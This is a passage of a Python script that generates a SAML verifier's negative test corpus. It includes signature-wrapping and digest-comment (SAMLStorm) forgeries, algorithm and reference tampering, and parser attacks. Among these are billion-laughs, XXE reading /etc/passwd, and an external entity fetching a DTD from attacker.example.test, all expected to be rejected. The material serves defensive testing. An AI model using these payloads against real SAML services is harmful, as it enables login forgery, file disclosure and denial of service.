        ("rsa-sha1-digest-sha1", dict(sig_alg=F.RSA_SHA1, digest_alg=F.SHA1), "RSA-SHA1 and SHA-1 digest (pysaml2's default)"),
    ]
    for name, kw, what in sha1_cases:
        x = signed(a_tpl=F.sig_template("#" + aid, **kw))
        must_verify(x, F.XP_ASSERTION_SIG, A, name)
        m.add(f"key/{name}.xml", x, expect="reject", code="sha1_not_allowed", sha1=True,
              reason=f"valid IdP A signature using SHA-1: {what}; SHA-1 not allowed for the provider",
              variants=[{"allow_sha1": True, "expect": "accept", "expect_nameid": "alice", "expect_code": None,
                         "reason": "same document with allow_sha1 for the provider: the signature is valid"}])
    x = signed(a_tpl=F.sig_template("#" + aid, digest_alg=F.MD5))
    must_verify(x, F.XP_ASSERTION_SIG, A, "md5")
    m.add("key/digest-md5.xml", x, expect="reject", code="signature_algorithm_forbidden",
          reason="valid IdP A RSA-SHA256 signature whose Reference uses the MD5 digest (xmldsig-more#md5)")
    x = signed(a_tpl=F.sig_template("#" + aid, sig_alg="http://www.w3.org/2001/04/xmldsig-more#rsa-md5"))
    must_verify(x, F.XP_ASSERTION_SIG, A, "rsa-md5")
    m.add("key/rsa-md5.xml", x, expect="reject", code="signature_algorithm_forbidden",
          reason="valid IdP A signature with the RSA-MD5 signature method")

    def swap_resign(src, fn, key=A, resign=True):
        def g(t):
            s = sig(assertion(t))
            fn(s)
            if resign:
                F.resign_signed_info(s, key)
        return edit(src, g)

    def set_alg(path, uri):
        return lambda s: s.find(path).set("Algorithm", uri)

    SI = q(DS, "SignedInfo")
    for name, fn, code, reason, note in [
        ("dsa-sha1-uri", set_alg(f"{SI}/{q(DS, 'SignatureMethod')}", F.DSA_SHA1), "signature_algorithm_forbidden",
         "SignatureMethod dsa-sha1", "SignatureMethod URI swapped after signing; SignatureValue is an RSA-SHA256 value over the edited SignedInfo. signature_algorithm_forbidden comes before sha1_not_allowed."),
        ("dsa-sha256-uri", set_alg(f"{SI}/{q(DS, 'SignatureMethod')}", F.DSA_SHA256), "signature_algorithm_forbidden",
         "SignatureMethod xmldsig11#dsa-sha256", "SignatureMethod URI swapped after signing; SignatureValue is an RSA-SHA256 value over the edited SignedInfo."),
        ("unknown-signature-method", set_alg(f"{SI}/{q(DS, 'SignatureMethod')}", "urn:fedgate:test:unknown-signature-method"),
         "signature_algorithm_forbidden", "unknown SignatureMethod URI", "URI swapped after signing; RSA-SHA256 value over the edited SignedInfo."),
        ("unknown-c14n-method", set_alg(f"{SI}/{q(DS, 'CanonicalizationMethod')}", "http://www.w3.org/2006/12/xml-c14n12"),
         "signature_algorithm_forbidden", "CanonicalizationMethod with an unknown URI (xml-c14n12)",
         "URI swapped after signing; SignatureValue is RSA-SHA256 over the exc-c14n form of the edited SignedInfo."),
        ("transform-unknown-c14n", set_alg(f"{SI}/{q(DS, 'Reference')}/{q(DS, 'Transforms')}/{q(DS, 'Transform')}[2]",
                                           "http://www.w3.org/2006/12/xml-c14n12"), "transform_forbidden",
         "Reference transform: a canonicalisation with an unknown URI (xml-c14n12) instead of exc-c14n",
         "URI swapped after signing and SignedInfo re-signed by IdP A (RSA-SHA256): the DigestValue is the exc-c14n digest, so only the transform is wrong."),
        ("reference-external-uri", lambda s: s.find(f"{SI}/{q(DS, 'Reference')}").set("URI", "https://attacker.example.test/assertion.xml"),
         "reference_invalid", "Reference URI points outside the document (https://attacker.example.test/assertion.xml)",
         "URI swapped after signing, SignedInfo re-signed by IdP A; the verifier must never fetch it."),
        ("reference-xpointer", lambda s: s.find(f"{SI}/{q(DS, 'Reference')}").set("URI", f"#xpointer(id('{aid}'))"),
         "reference_invalid", "Reference URI in XPointer form #xpointer(id('...'))", "SignedInfo re-signed by IdP A after the edit."),
        ("reference-none", lambda s: s.find(SI).remove(s.find(f"{SI}/{q(DS, 'Reference')}")),
         "reference_invalid", "SignedInfo without any Reference", "SignedInfo re-signed by IdP A after the edit."),
        ("signature-tampered", None, "signature_invalid", "one byte of SignatureValue flipped", None),
        ("two-signedinfo", lambda s: s.find(SI).addnext(copy.deepcopy(s.find(SI))), "signature_malformed",
         "the assertion's Signature holds two SignedInfo elements (xml-crypto CVE-2025-29774 shape)", None),
        ("no-signature-value", lambda s: s.remove(s.find(q(DS, "SignatureValue"))), "signature_malformed",
         "the assertion's Signature has no SignatureValue", None),
    ]:
        if name == "signature-tampered":
            def flip(t):
                sv = sig(assertion(t)).find(q(DS, "SignatureValue"))
                raw = bytearray(base64.b64decode(sv.text))
                raw[len(raw) // 2] ^= 0x01
                sv.text = F.b64_lines(bytes(raw))
            x = edit(v_assert, flip)
        else:
            x = swap_resign(v_assert, fn, resign=name not in ("two-signedinfo", "no-signature-value"))
        sha1 = name == "dsa-sha1-uri"
        m.add(f"key/{name}.xml", x, expect="reject", code=code, reason=reason, note=note, sha1=sha1)

    # transforms xmlsec1 can really sign with
    xp = etree.Element(q(DS, "Transform"), Algorithm=F.XPATH)
    etree.SubElement(xp, q(DS, "XPath")).text = "not(ancestor-or-self::ds:Signature)"
    x = signed(a_tpl=F.sig_template("#" + aid, transforms=(xp, F.EXC_C14N)))
    must_verify(x, F.XP_ASSERTION_SIG, A, "xpath")
    m.add("key/transform-xpath.xml", x, expect="reject", code="transform_forbidden",
          reason="valid IdP A signature whose Reference uses an XPath transform (not(ancestor-or-self::ds:Signature)) instead of enveloped-signature")
    XSL = "http://www.w3.org/1999/XSL/Transform"
    xt = etree.Element(q(DS, "Transform"), Algorithm=F.XSLT)
    ss = etree.SubElement(xt, q(XSL, "stylesheet"), nsmap={"xsl": XSL}, version="1.0")
    etree.SubElement(ss, q(XSL, "output"), method="xml", **{"omit-xml-declaration": "yes"})
    tpl = etree.SubElement(ss, q(XSL, "template"), match="@*|node()")
    etree.SubElement(etree.SubElement(tpl, q(XSL, "copy")), q(XSL, "apply-templates"), select="@*|node()")
    try:
        x = signed(a_tpl=F.sig_template("#" + aid, transforms=(F.ENVELOPED, xt, F.EXC_C14N)))
        note = "signed by xmlsec1 with a real XSLT identity transform."
    except RuntimeError:
        x = swap_resign(v_assert, lambda s: s.find(f"{SI}/{q(DS, 'Reference')}/{q(DS, 'Transforms')}").insert(1, copy.deepcopy(xt)))
        note = "xmlsec1 refused to sign with XSLT: transform inserted after signing and SignedInfo re-signed by IdP A."
    m.add("key/transform-xslt.xml", x, expect="reject", code="transform_forbidden",
          reason="Reference transforms include an XSLT stylesheet (identity copy)", note=note)
    x = signed(a_tpl=F.sig_template("", transforms=(F.ENVELOPED, F.EXC_C14N)))
    must_verify(x, F.XP_ASSERTION_SIG, A, "empty uri")
    m.add("key/reference-empty-uri.xml", x, expect="reject", code="reference_invalid",
          reason="valid IdP A signature with Reference URI=\"\" (the whole document), placed in the Assertion")
    x = signed(a_tpl=F.sig_template("#" + aid, extra_refs=["#" + doc_a().response_id]))
    must_verify(x, F.XP_ASSERTION_SIG, A, "two refs")
    m.add("key/two-references.xml", x, expect="reject", code="reference_invalid",
          reason="valid IdP A signature in the Assertion with two References (#assertion and #response)")

    # signature on the wrong element
    def id_on(local):
        def fn(t):
            el = assertion(t).find(q(SAML, local))
            el.set("ID", f"_{local.lower()}-1")
        return fn
    for local in ("Subject", "Issuer"):
        x = signed(id_on(local), a_tpl=F.sig_template(f"#_{local.lower()}-1", transforms=(F.EXC_C14N,)))
        must_verify(x, F.XP_ASSERTION_SIG, A, f"sig over {local}")
        m.add(f"key/signs-{local.lower()}.xml", x, expect="reject", code="reference_not_parent",
              reason=f"the Assertion's Signature is valid but its Reference points at the saml:{local} element (given ID _{local.lower()}-1), not at the Assertion")
    x = signed(a_tpl=F.sig_template("#" + doc_a().response_id))
    must_verify(x, F.XP_ASSERTION_SIG, A, "assertion sig over response")
    m.add("key/assertion-signature-covers-response.xml", x, expect="reject", code="reference_not_parent",
          reason="a Signature placed in the Assertion that (validly) signs the whole Response (Keycloak CVE-2024-8698: position vs Reference)")

    def sig_in_subject():
        tree = doc_a().build()
        subj = assertion(tree).find(q(SAML, "Subject"))
        subj.set("ID", "_subject-1")
        subj.insert(0, F.sig_template("#_subject-1"))
        etree.indent(tree.getroot(), space="  ")
        xp = "/*/*[local-name()='Assertion']/*[local-name()='Subject']/*[local-name()='Signature']"
        xml = F.xmlsec_sign(F.serialize(tree), xp, key=A)
        must_verify(xml, xp, A, "sig in subject")
        return xml
    m.add("key/signature-inside-subject.xml", sig_in_subject(), expect="reject", code="signature_missing",
          reason="the only Signature is enveloped inside saml:Subject (signing the Subject): neither the Response nor the Assertion has a direct-child Signature")
    m.add("key/unsigned-assertion.xml", edit(v_assert, lambda t: remove(sig(assertion(t)))), expect="reject",
          code="signature_missing", reason="the Assertion's Signature removed; nothing signed")
    m.add("key/unsigned-response.xml", edit(v_resp, lambda t: remove(sig(t.getroot()))), expect="reject",
          code="signature_missing", reason="the Response's Signature removed from the response-signed document")
    m.add("key/unsigned-edited.xml", edit(v_assert, lambda t: (remove(sig(assertion(t))), make_evil(assertion(t)))),
          expect="reject", code="signature_missing", reason="Signature removed and the Assertion edited to admin")
    x = edit(v_assert, lambda t: make_evil(assertion(t)))
    m.add("key/nameid-changed.xml", x, expect="reject", code="digest_mismatch",
          reason="NameID, RoleSessionName and Role edited to admin after signing; Signature kept")
    m.add("key/response-edited-both-signed.xml", edit(v_both, lambda t: make_evil(assertion(t))), expect="reject",
          code="digest_mismatch", reason="both-signed document edited to admin after signing: both digests mismatch")

    def samlstorm(t):
        # forge: edit the Assertion, put the digest of the edited Assertion inside a comment before the genuine digest
        a = assertion(t)
        make_evil(a)
        s = sig(a)
        dv = s.find(f"{SI}/{q(DS, 'Reference')}/{q(DS, 'DigestValue')}")
        a_copy = copy.deepcopy(a)
        a_copy.remove(sig(a_copy))
        forged = base64.b64encode(hashlib.sha256(etree.tostring(a_copy, method="c14n", exclusive=True)).digest()).decode()
        genuine = dv.text
        dv.text = None
        c = etree.Comment(forged)
        dv.append(c)
        c.tail = genuine
    m.add("key/digest-value-comment.xml", edit(v_assert, samlstorm), expect="reject", code="digest_mismatch",
          reason="SAMLStorm (xml-crypto CVE-2025-29775): Assertion edited, DigestValue = <!--digest of the edited Assertion-->genuine digest; SignatureValue still verifies over SignedInfo",
          note="The full text of DigestValue (comments ignored) is the genuine digest, which does not match the edited Assertion. A verifier that rejects comments inside SignedInfo values as signature_malformed would also be safe, but the literal order names digest_mismatch.")

    # cross-IdP and weak key
    x = signed(key=B)
    must_verify(x, F.XP_ASSERTION_SIG, B, "a-issuer-b-key")
    m.add("key/idp-a-issuer-signed-by-idp-b.xml", x, expect="reject", code="issuer_key_mismatch", extra_metadata=[META_B],
          reason="Issuer is IdP A but the Assertion is signed with IdP B's key (B's certificate in KeyInfo); both IdPs trusted",
          note="The order lists issuer_key_mismatch before key_not_trusted: B's key verifies, and it belongs to another trusted provider.",
          variants=[{"extra_metadata": [], "expect": "reject", "expect_code": "key_not_trusted",
                     "reason": "only IdP A trusted: KeyInfo carries B's certificate, not in A's trust set, and no A key verifies"}])
    x = signed(doc=F.Doc(WEAK_ENTITY, "IdpWeak"), key=WEAK)
    must_verify(x, F.XP_ASSERTION_SIG, WEAK, "weak")
    m.add("key/rsa-1024.xml", x, expect="reject", code="key_too_weak", metadata=META_WEAK,
          reason="Assertion validly signed with the 1024-bit RSA key that weak-metadata.xml trusts",
          note="If the verifier refuses to load a provider with a < 2048-bit key at configuration time, the test must map that refusal to key_too_weak.")

    # ---------------------------------------------------------------- profile checks (correctly signed)
    def times(t, shift: dt.timedelta, where=("scd", "cond", "session", "issue")):
        a = assertion(t)
        t0 = T0 + shift
        t1 = t0 + dt.timedelta(hours=1)
        if "issue" in where:
            t.getroot().set("IssueInstant", F.iso(t0))
            a.set("IssueInstant", F.iso(t0))
            a.find(q(SAML, "AuthnStatement")).set("AuthnInstant", F.iso(t0))
        if "session" in where:
            a.find(q(SAML, "AuthnStatement")).set("SessionNotOnOrAfter", F.iso(t1))
        if "scd" in where:
            a.find(f".//{q(SAML, 'SubjectConfirmationData')}").set("NotOnOrAfter", F.iso(t1))
        if "cond" in where:
            c = a.find(q(SAML, "Conditions"))
            c.set("NotBefore", F.iso(t0))
            c.set("NotOnOrAfter", F.iso(t1))

    def scd(t):
        return assertion(t).find(f".//{q(SAML, 'SubjectConfirmationData')}")

    def set_attr_value(name, value):
        return lambda t: setattr(attr_values(assertion(t), name)[0], "text", value)

    def subject_no_nameid(t):
        s = assertion(t).find(q(SAML, "Subject"))
        s.remove(s.find(q(SAML, "NameID")))

    def no_scd(t):
        sc = assertion(t).find(f".//{q(SAML, 'SubjectConfirmation')}")
        sc.remove(sc.find(q(SAML, "SubjectConfirmationData")))

    def status_responder(t):
        sc = t.getroot().find(f"{q(SAMLP, 'Status')}/{q(SAMLP, 'StatusCode')}")
        sc.set("Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")
        etree.SubElement(sc, q(SAMLP, "StatusCode"), Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed")

    profile = [
        ("expired", lambda t: times(t, -dt.timedelta(hours=2)), "expired",
         "whole document two hours older (IssueInstant 2025-12-31T22:00:00Z, everything NotOnOrAfter 23:00:00Z)", None),
        ("expired-conditions-only", lambda t: times(t, -dt.timedelta(hours=2), ("cond",)), "expired",
         "Conditions window 22:00–23:00 on 2025-12-31; SubjectConfirmationData still valid", None),
        ("expired-subject-confirmation-only", lambda t: times(t, -dt.timedelta(hours=2), ("scd",)), "expired",
         "SubjectConfirmationData NotOnOrAfter 2025-12-31T23:00:00Z; Conditions still valid", None),
        ("not-yet-valid", lambda t: times(t, dt.timedelta(hours=1)), "not_yet_valid",
         "whole document one hour in the future (NotBefore 01:00:00Z, at 00:01:00Z)", None),
        ("wrong-audience", lambda t: setattr(assertion(t).find(f".//{q(SAML, 'Audience')}"), "text", "https://other-sp.example.test/saml"),
         "audience_mismatch", "Audience is another SP", None),
        ("no-audience-restriction", lambda t: assertion(t).find(q(SAML, "Conditions")).remove(
            assertion(t).find(f"{q(SAML, 'Conditions')}/{q(SAML, 'AudienceRestriction')}")), "audience_mismatch",
         "Conditions without AudienceRestriction", None),
        ("wrong-recipient", lambda t: scd(t).set("Recipient", "https://other-sp.example.test/saml/acs"), "recipient_mismatch",
         "SubjectConfirmationData Recipient is another SP's ACS", None),
        ("wrong-destination", lambda t: t.getroot().set("Destination", "https://other-sp.example.test/saml/acs"), "destination_mismatch",
         "Response Destination is another SP's ACS", None),
        ("sender-vouches", lambda t: assertion(t).find(f".//{q(SAML, 'SubjectConfirmation')}").set(
            "Method", "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"), "subject_confirmation_missing",
         "the only SubjectConfirmation has Method sender-vouches (no bearer)", None),
        ("bearer-without-data", no_scd, "subject_confirmation_missing",
         "bearer SubjectConfirmation without SubjectConfirmationData", None),
        ("status-responder", status_responder, "status_not_success",
         "Status Responder/AuthnFailed (with an Assertion still present)", None),
        ("response-version-1.1", lambda t: t.getroot().set("Version", "1.1"), "version_unsupported", "Response Version 1.1", None),
        ("assertion-version-1.1", lambda t: assertion(t).set("Version", "1.1"), "version_unsupported", "Assertion Version 1.1", None),
        ("missing-nameid", subject_no_nameid, "subject_missing", "Subject without NameID", None),
        ("missing-subject", lambda t: assertion(t).remove(assertion(t).find(q(SAML, "Subject"))), "subject_missing",
         "Assertion without Subject", "subject_missing comes before subject_confirmation_missing."),
        ("in-response-to-mismatch", lambda t: (t.getroot().set("InResponseTo", "_req-other"), scd(t).set("InResponseTo", "_req-other")),
         "in_response_to_mismatch", "InResponseTo _req-other while only _req-1 is outstanding", None),
        ("role-session-name-space", set_attr_value(F.RSN_ATTR, "alice smith"), "role_session_name_invalid",
         "RoleSessionName `alice smith` (space not allowed)", None),
        ("role-malformed", set_attr_value(F.ROLE_ATTR, f"arn:aws:iam::{F.ACCOUNT}:role/Agent"), "role_malformed",
         "Role value with a role ARN but no saml-provider ARN", None),
        ("role-not-arn", set_attr_value(F.ROLE_ATTR, "Agent,IdpA"), "role_malformed", "Role value without ARNs", None),
        ("session-duration-60", lambda t: add_attribute(assertion(t), "https://aws.amazon.com/SAML/Attributes/SessionDuration", ["60"]),
         "session_duration_invalid", "SessionDuration 60 (minimum 900)", None),
        ("source-identity-aws-prefix", lambda t: add_attribute(assertion(t), "https://aws.amazon.com/SAML/Attributes/SourceIdentity", ["aws:x"]),
         "source_identity_invalid", "SourceIdentity `aws:x` (must not begin with aws:)", None),
        ("principal-tag-key-too-long", lambda t: add_attribute(assertion(t), "https://aws.amazon.com/SAML/Attributes/PrincipalTag:" + "k" * 129, ["v"]),
         "principal_tag_invalid", "PrincipalTag key of 129 characters (maximum 128)", None),
    ]
    for name, fn, code, reason, note in profile:
        x = signed(fn, response=True)
        must_verify(x, F.XP_ASSERTION_SIG, A, name)
        must_verify(x, F.XP_RESPONSE_SIG, A, name)
        irt = ["_req-1"] if name == "in-response-to-mismatch" else []
        m.add(f"profile/{name}.xml", x, expect="reject", code=code, in_response_to=irt,
              reason=reason + "; Assertion and Response correctly signed by IdP A", note=note)

    x = signed(lambda t: assertion(t).addprevious(encrypted_el()) or t.getroot().remove(assertion(t)),
               assertion=False, response=True)
    must_verify(x, F.XP_RESPONSE_SIG, A, "encrypted")
    m.add("profile/encrypted-assertion.xml", x, expect="reject", code="encrypted_assertion_unsupported", encrypted=True,
          reason="signed Response whose single assertion is an EncryptedAssertion (dummy EncryptedData: aes256-gcm + rsa-oaep-mgf1p, random-looking bytes)",
          note="The ciphertext is not decryptable by any key; the case pins that encrypted assertions are refused before any decryption attempt.")

    def bare_assertion():
        tree = doc_a().build()
        a = assertion(tree)
        a.getparent().remove(a)
        F.insert_after_issuer(a, F.sig_template("#" + aid))
        etree.indent(a, space="  ")
        xml = F.xmlsec_sign(F.serialize(a), "/*/*[local-name()='Signature']", key=A)
        return xml
    m.add("profile/bare-assertion.xml", bare_assertion(), expect="reject", code="not_a_response",
          reason="a correctly signed saml:Assertion posted as the document root (no samlp:Response)")

    def no_issuer(t):
        a = assertion(t)
        a.remove(a.find(q(SAML, "Issuer")))
    x = signed(no_issuer)
    must_verify(x, F.XP_ASSERTION_SIG, A, "no issuer")
    m.add("profile/assertion-issuer-missing.xml", x, expect="reject", code="issuer_missing",
          reason="Assertion without Issuer (signed by IdP A; the Response still names IdP A)")
    x = signed(doc=F.Doc(ATTACKER_ENTITY, "IdpA"), key=ATTACKER)
    m.add("profile/issuer-unknown.xml", x, expect="reject", code="issuer_unknown",
          reason="Issuer https://idp-attacker.example.test/saml is not a trusted provider (signed by the attacker's own key)")

    # ---------------------------------------------------------------- parser attacks
    base = v_assert + b"\n"
    ext_open, ext_close = b"\n  <samlp:Extensions>", b"</samlp:Extensions>"
    nid_line = b">alice</saml:NameID>"
    parser = [
        ("dtd-internal-entity", with_doctype(replace_once(base, nid_line, b">&who;</saml:NameID>"),
                                             b'<!DOCTYPE samlp:Response [\n  <!ENTITY who "admin">\n]>'),
         "xml_dtd_forbidden", "internal DTD subset defining an entity used as the NameID"),
        ("billion-laughs", with_doctype(after_response_issuer(base, ext_open + b"<fg:x xmlns:fg=\"urn:fedgate:test\">&lol9;</fg:x>" + ext_close),
                                        b"<!DOCTYPE samlp:Response [\n" + b'  <!ENTITY lol "lol">\n' + b"".join(
                                            b'  <!ENTITY lol%d "%s">\n' % (i, (b"&lol%s;" % (str(i - 1).encode() if i > 1 else b"")) * 10)
                                            for i in range(1, 10)) + b"]>"),
         "xml_dtd_forbidden", "billion laughs: nine levels of ten-fold entity expansion (10^9 'lol')"),
        ("xxe-file", with_doctype(replace_once(base, nid_line, b">&xxe;</saml:NameID>"),
                                  b'<!DOCTYPE samlp:Response [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>'),
         "xml_dtd_forbidden", "external entity (XXE) reading file:///etc/passwd into the NameID"),
        ("xxe-parameter-entity", with_doctype(base, b'<!DOCTYPE samlp:Response [\n  <!ENTITY % remote SYSTEM "https://attacker.example.test/evil.dtd">\n  %remote;\n]>'),
         "xml_dtd_forbidden", "external parameter entity (out-of-band XXE); must never be fetched"),
        ("doctype-empty", with_doctype(base, b"<!DOCTYPE samlp:Response>"),
         "xml_dtd_forbidden", "a DOCTYPE without internal subset (any DOCTYPE is refused)"),
        ("deep-nesting-10000", after_response_issuer(base, ext_open + b"<d>" * 10000 + b"</d>" * 10000 + ext_close),
         "xml_limit_exceeded", "10 000 nested elements inside samlp:Extensions (limit: depth 64)"),
        ("many-nodes-60000", after_response_issuer(base, ext_open + b"<n/>" * 60000 + ext_close),
         "xml_limit_exceeded", "60 000 sibling elements inside samlp:Extensions (limit: 50 000 nodes)"),
        ("many-attributes-100000", after_response_issuer(base, ext_open + b"<fg:x xmlns:fg=\"urn:fedgate:test\"" + b"".join(
            b' a%s=""' % base36(i) for i in range(100000)) + b"/>" + ext_close),
         "xml_limit_exceeded", "one element with 100 000 attributes (limit: 64)"),
        ("many-namespaces-100", after_response_issuer(base, ext_open + b"<fg:x xmlns:fg=\"urn:fedgate:test\"" + b"".join(
            b' xmlns:p%d="urn:fedgate:test:%d"' % (i, i) for i in range(100)) + b"/>" + ext_close),
         "xml_limit_exceeded", "one element declaring 100 namespaces (limit: 64 in scope)"),
        ("huge-2mib", None, "input_too_large", "2 MiB document: a valid signed Response padded with a comment (limit: 1 MiB)"),
        ("non-utf8-byte", replace_once(base, nid_line, b">al\xffice</saml:NameID>"), "xml_malformed",
         "byte 0xFF (not UTF-8) inside the NameID"),
        ("latin1-declared", replace_once(base.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"', 1), nid_line, b">al\xe9ice</saml:NameID>"),
         "xml_malformed", "encoding=\"ISO-8859-1\" declared and a Latin-1 byte (0xE9) in the NameID: only UTF-8 is accepted"),
        ("trailing-second-root", base + b"<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_second\"/>\n",
         "xml_malformed", "a second root element after the signed Response (node-saml CVE-2022-39299 shape)"),
    ]
    for name, data, code, reason in parser:
        ext = ".xml"
        if name == "huge-2mib":
            pad = 2 * 1024 * 1024 - len(base) - len(b"<!--  -->\n")
            decl_end = base.index(b"?>") + 2
            data = base[:decl_end] + b"\n<!-- " + b"A" * pad + b" -->" + base[decl_end:]
            assert len(data) == 2 * 1024 * 1024, len(data)
        if name == "many-attributes-100000":
            assert len(data) < 1024 * 1024, len(data)
        m.add(f"parser/{name}{ext}", data, expect="reject", code=code, reason=reason,
              note="Apart from the attack the document is the valid assertion-signed base (inserted content is outside the signed Assertion), so it would be accepted if the check were missing." if name.startswith(("deep", "many", "billion", "xxe-param", "doctype")) else None)
    huge = (OUT / "parser/huge-2mib.xml").read_bytes()
    m.add("parser/huge-2mib.b64", base64.b64encode(huge) + b"\n", expect="reject", code="input_too_large", b64=True,
          reason="base64 of parser/huge-2mib.xml (2.7 MiB of base64)")
    good = base64.b64encode(v_both)
    mid = len(good) // 2
    m.add("parser/invalid-base64.b64", good[:mid] + b"*!*" + good[mid:] + b"\n", expect="reject", code="base64_invalid", b64=True,
          reason="base64 of the valid both-signed document with `*!*` inserted in the middle")
    m.add("parser/base64-of-garbage.b64", base64.b64encode(b"\x00\x01not xml at all\xff") + b"\n", expect="reject",
          code="xml_malformed", b64=True, reason="valid base64 whose content is not XML (and not UTF-8)")

    m.save()
    (OUT / "README.md").write_text(README)
    counts: dict[str, int] = {}
    for c in m.cases:
        counts[c["file"].split("/")[0]] = counts.get(c["file"].split("/")[0], 0) + 1 + len(c.get("variants", []))
    print("gen-attacks: wrote", len(m.cases), "entries:", ", ".join(f"{k} {v}" for k, v in counts.items()), "(counting variants)")


README = """# Attack suite (generated)

Generated by `scripts/gen-attacks.py`; do not edit by hand. Regenerate with
`scripts/setup-test-env.sh && .venv/bin/python scripts/gen-attacks.py` (deterministic given
tests/keys/, except the ECDSA signature in `valid/assertion-signed-ecdsa.xml`).

`cases.json` uses the format of the shared corpus (`corpus/README.md`: `file`, `idp_metadata`,
`idp_cert`, `idp_entity_id`, `sp_entity_id`, `acs_url`, `at`, `expect`, `reason`, `sha1`,
`encrypted`, `base64`, `in_response_to`, `expect_nameid`, `note`, `variants`) plus:

- `expect_code`: the fedgate error code that must be reported (null for accept), following the
  verifier's check order literally;
- `extra_metadata`: additional trusted IdP metadata files;
- `allow_sha1`: whether SHA-1 is allowed for the provider;
- `truncations` (only on `valid/assertion-signed.xml`): the Rust test also sweeps every 97th
  prefix and every prefix ending at `>` and expects each to be rejected.

Variants override fields of their entry (including `expect_code`, `extra_metadata`, `allow_sha1`).
Paths are relative to this folder. Folders: `valid/` (accept), `xsw/` (signature wrapping),
`multi/` (assertion count, duplicate IDs), `text/` (comment/CDATA/char-ref injection),
`key/` (keys, algorithms, references, transforms, signature structure), `profile/` (correctly
signed documents failing a SAML/AWS check), `parser/` (DTD, entities, limits, encodings, base64).
"""


def base36(i: int) -> bytes:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    s = ""
    while True:
        i, r = divmod(i, 36)
        s = digits[r] + s
        if i == 0:
            return s.encode()


if __name__ == "__main__":
    main()
